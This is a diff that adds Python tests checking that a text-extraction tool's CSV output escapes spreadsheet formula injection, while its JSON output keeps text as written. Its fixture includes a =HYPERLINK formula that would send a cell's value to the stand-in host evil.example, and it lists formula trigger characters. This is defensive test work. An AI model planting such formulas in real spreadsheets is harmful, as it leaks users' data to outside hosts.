@@ -85,3 +85,45 @@ def test_a_yaml_syntax_error_in_a_rule_file_keeps_the_config_problems(story):
     lines = _problems(run("check", "story"))
     assert len(lines) == 2, lines
     assert _has(lines, "checker.toml:2", "fail_on") and _has(lines, "rules/x.yaml:4", "YAML syntax error"), lines
+
+
+# ---------------------------------------------------------------- (b) CSV for spreadsheets
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click") Acme paid $3.2 billion for Globex.\n'
+    "@AcmeCorp said 1,200 people work at the Springfield plant.\n"
+    "-40% was the fall in Globex shares this year, the exchange said.\n"
+    "+7 points was the rise in the rating, analysts said.\n"
+    "The board approved the plan on Friday.\n"
+)
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _csv(text: str) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_extract_csv_cells_never_start_a_spreadsheet_formula(story):
+    write(story / "h" / "a.txt", HOSTILE)
+    code, out, err = run("extract", "h/a.txt", "--format", "csv")
+    assert code == 0, out + err
+    rows = _csv(out)
+    cells = [cell for row in rows for cell in row.values()]
+    for cell in cells:
+        if cell.startswith(TRIGGERS):  # a plain number is safe: Excel reads it as a number
+            assert cell in ("-40.0", "-40%"), repr(cell)
+    sentences = {row["line"]: row["sentence"] for row in rows if row["kind"] == "statement"}
+    assert sentences["1"].startswith("'=HYPERLINK(")
+    assert sentences["2"] == "'@AcmeCorp said 1,200 people work at the Springfield plant."
+    assert sentences["3"].startswith("'-40% was the fall")
+    assert sentences["4"].startswith("'+7 points")
+    assert sentences["5"] == "The board approved the plan on Friday."  # untouched
+    [pct] = [row for row in rows if row["kind"] == "percent"]
+    assert (pct["value"], pct["raw"]) == ("-40.0", "-40%")  # numbers stay numbers
+
+
+def test_extract_json_keeps_the_text_as_written(story):
+    write(story / "h" / "a.txt", HOSTILE)
+    code, out, err = run("extract", "h/a.txt", "--format", "json")
+    assert code == 0, out + err
+    assert '"=HYPERLINK(' in out and "\"'=" not in out and "\"'@" not in out
